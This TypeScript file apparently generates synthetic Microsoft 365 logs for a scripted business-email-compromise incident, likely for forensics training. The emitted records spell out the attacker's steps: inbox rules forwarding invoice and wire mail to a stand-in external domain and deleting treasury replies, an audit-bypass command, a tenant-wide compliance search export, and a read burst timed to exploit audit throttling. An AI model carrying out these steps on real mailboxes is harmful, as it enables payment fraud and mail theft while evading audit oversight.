// The scripted business-email-compromise incident of the `bec` scenario. Times are fixed offsets
// from the incident day D (placed 8 days before the end of the range):
//   D   07:41  attacker signs in as the victim from a new IP through a third-party Graph app
//   D   07:45  reads ~50 messages (Bind, aggregated) through that app; re-reads a few (de-duplicated)
//   D   08:20  signs in with desktop Outlook and syncs Inbox and Sent Items (Sync)
//   D   08:30  OWA: New-InboxRule forwarding invoices externally (ForwardTo + MoveToFolder + MarkAsRead)
//               and a second rule deleting replies from the finance contact (DeleteMessage)
//   D   08:52  sends the fraudulent message to two external recipients
//   D+1 01:12  signs in as the compromised admin from a second IP
//   D+1 01:20  Set-MailboxAuditBypassAssociation -Identity <admin alias> -AuditBypassEnabled True
//   D+1 01:25  reads the admin's own mailbox (not recorded: bypass)
//   D+1 01:40  eDiscovery: New-ComplianceSearch, Start-ComplianceSearch, 02:30 export action
//   D+1 09:00  mass read of the victim's mailbox through the Graph app, 8 folders in parallel for
//               6 hours: passes 1,000 MailItemsAccessed records, one record IsThrottled=True, then
//               the rest of the burst (and the victim's own reads) leave no Bind record for 24 h
//   D+1 16:00  syncs the victim's Archive folder during the throttle (Sync is still recorded)
//   D+3 10:05  Set-MailboxAuditBypassAssociation ... -AuditBypassEnabled False
import type { MailboxProfile } from './tenant.ts';
import type { Client } from './records.ts';
import type { BypassSpan, DayGen } from './day.ts';
import { COMPROMISED_ADMIN, HOUR_MS, MIN_MS, VICTIM, iso } from './tenant.ts';
import { CLIENTS, LOGON_OWNER } from './records.ts';
import { F_ARCHIVE, F_INBOX, F_SENT, FOLDERS, PER_DAY } from './mailstore.ts';
import { Rng, stableGuid } from './rng.ts';

export const ATTACKER_IP_1 = '203.0.113.66';
export const ATTACKER_IP_2 = '203.0.113.91';
export const EXTERNAL_DOMAIN = 'fabrikam-billing.example';

export interface Incident {
  day: number;
  bypass: BypassSpan;
  bypassOnMs: number;
  bypassOffMs: number;
  burstDay: number;
  attackerApp: Client;
  sessionIds: string[];
  appIds: string[];
  ips: string[];
  inboxRules: Record<string, unknown>[];
  emit(g: DayGen, dayIndex: number): void;
}

export function planIncident(seed: number, profiles: MailboxProfile[], dayStartOf: (i: number) => number, dayCount: number): Incident {
  if (dayCount < 10) throw new Error(`The bec scenario needs at least 10 days (got ${dayCount}): the incident spans 4 days and needs a day before it.`);
  const D = dayCount - 8;
  const d0 = dayStartOf(D);
  const d1 = dayStartOf(D + 1);
  const d3 = dayStartOf(D + 3);
  const rng = new Rng(seed, 'incident');
  const appId = stableGuid(seed, 'attacker-app');
  const attackerApp: Client = {
    key: 'attacker-app', clientInfoString: 'Client=REST;Client=RESTSystem;;', appId, signInAppId: appId,
    userAgent: 'python-requests/2.32.3', os: 'Linux', browser: '', syncs: false,
  };
  const s = {
    graph1: rng.guid(), aad1: rng.guid(),
    outlook: rng.guid(), aad2: rng.guid(),
    owa: rng.guid(), aad3: rng.guid(),
    admin: rng.guid(), aad4: rng.guid(),
    graph2: rng.guid(), aad5: rng.guid(),
    outlook2: rng.guid(), aad6: rng.guid(),
    admin2: rng.guid(), aad7: rng.guid(),
  };
  const victimP = profiles[VICTIM];
  const adminP = profiles[COMPROMISED_ADMIN];
  if (!victimP || !adminP) throw new Error('bec needs the core roster');
  const victim: MailboxProfile = victimP;
  const admin: MailboxProfile = adminP;
  const bypassOnMs = d1 + HOUR_MS + 20 * MIN_MS;
  const bypassOffMs = d3 + 10 * HOUR_MS + 5 * MIN_MS;
  const forwardTo = `ap-desk@${EXTERNAL_DOMAIN}`;
  const ruleTime = d0 + 8 * HOUR_MS + 34 * MIN_MS;
  const ruleParams1 = [
    { Name: 'AlwaysDeleteOutlookRulesBlob', Value: 'False' },
    { Name: 'Force', Value: 'False' },
    { Name: 'Name', Value: '..' },
    { Name: 'SubjectOrBodyContainsWords', Value: 'invoice;payment;wire;remittance' },
    { Name: 'ForwardTo', Value: forwardTo },
    { Name: 'MoveToFolder', Value: 'RSS Subscriptions' },
    { Name: 'MarkAsRead', Value: 'True' },
    { Name: 'StopProcessingRules', Value: 'True' },
  ];
  const ruleParams2 = [
    { Name: 'AlwaysDeleteOutlookRulesBlob', Value: 'False' },
    { Name: 'Force', Value: 'False' },
    { Name: 'Name', Value: '.' },
    { Name: 'From', Value: 'treasury@woodgrove.example' },
    { Name: 'DeleteMessage', Value: 'True' },
    { Name: 'MarkAsRead', Value: 'True' },
  ];
  const ruleObject = (name: string, priority: number, extra: Record<string, unknown>): Record<string, unknown> => ({
    Name: name,
    Identity: `${victim.user.alias}\\${stableGuid(seed, 'rule', name)}`,
    RuleIdentity: String(BigInt(`0x${stableGuid(seed, 'ruleid', name).replace(/-/g, '').slice(0, 15)}`)),
    MailboxOwnerId: victim.user.alias,
    Enabled: true,
    Priority: priority,
    StopProcessingRules: true,
    'WhenChanged@data.type': 'System.DateTime',
    WhenChanged: iso(ruleTime + priority * 2 * MIN_MS),
    IsValid: true,
    ObjectState: 'Unchanged',
    ...extra,
  });
  const inboxRules = [
    ruleObject('..', 1, {
      'SubjectOrBodyContainsWords@odata.type': '#Collection(String)', SubjectOrBodyContainsWords: ['invoice', 'payment', 'wire', 'remittance'],
      'ForwardTo@odata.type': '#Collection(String)', ForwardTo: [`"ap-desk@${EXTERNAL_DOMAIN}" [SMTP:${forwardTo}]`],
      MoveToFolder: `${victim.user.alias}:\\RSS Subscriptions`, MarkAsRead: true, DeleteMessage: false,
      Description: `If the message:\r\n\tincludes these words in the subject or body: 'invoice' or 'payment' or 'wire' or 'remittance'\r\nTake the following actions:\r\n\tforward the message to '${forwardTo}'\r\n\tmove the message to folder 'RSS Subscriptions'\r\n\tmark the message as read\r\n\tand stop processing more rules on this message\r\n`,
    }),
    ruleObject('.', 2, {
      'From@odata.type': '#Collection(String)', From: ['"Treasury" [SMTP:treasury@woodgrove.example]'],
      DeleteMessage: true, MarkAsRead: true, StopProcessingRules: false,
      Description: "If the message:\r\n\tis received from 'treasury@woodgrove.example'\r\nTake the following actions:\r\n\tmark the message as read\r\n\tdelete the message\r\n",
    }),
  ];

  const V = VICTIM;
  const A = COMPROMISED_ADMIN;
  const outlook = CLIENTS.outlook!;
  const owa = CLIENTS.owa!;

  function emit(g: DayGen, dayIndex: number): void {
    const r = new Rng(seed, 'incident-day', dayIndex);
    if (dayIndex === D) {
      const absDay = g.absDay;
      g.signIn(d0 + 7 * HOUR_MS + 41 * MIN_MS + 13_000, V, attackerApp, ATTACKER_IP_1, s.aad1);
      // ~50 reads over 30 minutes, newest mail first, with a few re-reads inside the hour
      for (let i = 0; i < 50; i++) {
        const folder = i % 5 === 4 ? F_SENT : F_INBOX;
        const n = (absDay - Math.floor(i / 12)) * PER_DAY + (i % 12);
        g.bind(d0 + 7 * HOUR_MS + 45 * MIN_MS + i * 36_000 + r.int(0, 9) * 1000, V, V, LOGON_OWNER, attackerApp, ATTACKER_IP_1, s.graph1, folder, n, true);
      }
      for (let i = 0; i < 5; i++) {
        const n = absDay * PER_DAY + i;
        g.bind(d0 + 8 * HOUR_MS + 10 * MIN_MS + i * 20_000, V, V, LOGON_OWNER, attackerApp, ATTACKER_IP_1, s.graph1, F_INBOX, n, true);
      }
      const tOutlook = d0 + 8 * HOUR_MS + 20 * MIN_MS + 4_000;
      g.signIn(tOutlook, V, outlook, ATTACKER_IP_1, s.aad2);
      g.sync(tOutlook + 9_000, V, V, LOGON_OWNER, outlook, ATTACKER_IP_1, s.outlook, F_INBOX, true);
      g.sync(tOutlook + 14_000, V, V, LOGON_OWNER, outlook, ATTACKER_IP_1, s.outlook, F_SENT, true);
      g.signIn(d0 + 8 * HOUR_MS + 30 * MIN_MS + 2_000, V, owa, ATTACKER_IP_1, s.aad3);
      g.admin(ruleTime, V, ATTACKER_IP_1, 'New-InboxRule', `${victim.user.alias}\\..`, ruleParams1, s.owa);
      g.admin(ruleTime + 2 * MIN_MS + 7_000, V, ATTACKER_IP_1, 'New-InboxRule', `${victim.user.alias}\\.`, ruleParams2, s.owa);
      g.send(d0 + 8 * HOUR_MS + 52 * MIN_MS + 41_000, V, V, LOGON_OWNER, owa, ATTACKER_IP_1, s.owa, [
        { Address: `payments@${EXTERNAL_DOMAIN}`, Name: 'Payments' },
        { Address: 'accounts@woodgrove.example', Name: 'Woodgrove Accounts' },
      ]);
    }
    if (dayIndex === D + 1) {
      g.signIn(d1 + HOUR_MS + 12 * MIN_MS + 31_000, A, owa, ATTACKER_IP_2, s.aad4);
      g.admin(bypassOnMs, A, ATTACKER_IP_2, 'Set-MailboxAuditBypassAssociation', admin.user.alias,
        [{ Name: 'Identity', Value: admin.user.alias }, { Name: 'AuditBypassEnabled', Value: 'True' }], s.admin);
      for (let i = 0; i < 20; i++) {
        g.bind(d1 + HOUR_MS + 25 * MIN_MS + i * 15_000, A, A, LOGON_OWNER, owa, ATTACKER_IP_2, s.admin, F_INBOX, (g.absDay - 1) * PER_DAY + i, true);
      }
      const searchName = `Search-${stableGuid(seed, 'search').slice(0, 8)}`;
      const tS = d1 + HOUR_MS + 40 * MIN_MS;
      g.compliance(tS, A, ATTACKER_IP_2, 'New-ComplianceSearch', searchName,
        `-Name "${searchName}" -ExchangeLocation "All" -ContentMatchQuery "invoice OR wire OR \\"bank details\\""`);
      g.compliance(tS + 45_000, A, ATTACKER_IP_2, 'Start-ComplianceSearch', searchName, `-Identity "${searchName}"`);
      g.compliance(d1 + 2 * HOUR_MS + 30 * MIN_MS, A, ATTACKER_IP_2, 'New-ComplianceSearchAction', `${searchName}_Export`,
        `-SearchName "${searchName}" -Export -Format "FxStream" -ExchangeArchiveFormat "PerUserPst" -Scope "IndexedItemsOnly"`);
      // the throttle burst
      const tBurst = d1 + 9 * HOUR_MS;
      g.signIn(tBurst - 2 * MIN_MS + 5_000, V, attackerApp, ATTACKER_IP_1, s.aad5);
      const burstFolders = FOLDERS.map((_, i) => i);
      for (let b = 0; b < 180; b++) {
        for (const f of burstFolders) {
          for (let k = 0; k < 3; k++) {
            // older mail (numbered far back) so the burst never collides with background reads
            const n = (g.absDay - 400) * PER_DAY + b * 3 + k;
            g.bind(tBurst + b * 2 * MIN_MS + f * 3_000 + k * 11_000, V, V, LOGON_OWNER, attackerApp, ATTACKER_IP_1, s.graph2, f, n, true);
          }
        }
      }
      const tSync = d1 + 16 * HOUR_MS + 3_000;
      g.signIn(tSync - 20_000, V, outlook, ATTACKER_IP_1, s.aad6);
      g.sync(tSync, V, V, LOGON_OWNER, outlook, ATTACKER_IP_1, s.outlook2, F_ARCHIVE, true);
    }
    if (dayIndex === D + 3) {
      g.signIn(bypassOffMs - 3 * MIN_MS, A, owa, ATTACKER_IP_2, s.aad7);
      g.admin(bypassOffMs, A, ATTACKER_IP_2, 'Set-MailboxAuditBypassAssociation', admin.user.alias,
        [{ Name: 'Identity', Value: admin.user.alias }, { Name: 'AuditBypassEnabled', Value: 'False' }], s.admin2);
    }
  }

  return {
    day: D,
    bypass: { actor: A, start: bypassOnMs, end: bypassOffMs },
    bypassOnMs,
    bypassOffMs,
    burstDay: D + 1,
    attackerApp,
    // Exchange SessionIds of the attacker's mailbox and admin sessions, then the Entra session ids
    // carried in the sign-ins' DeviceProperties.
    sessionIds: [s.graph1, s.outlook, s.owa, s.admin, s.graph2, s.outlook2, s.admin2, s.aad1, s.aad2, s.aad3, s.aad4, s.aad5, s.aad6, s.aad7],
    appIds: [appId],
    ips: [ATTACKER_IP_1, ATTACKER_IP_2],
    inboxRules,
    emit,
  };
}

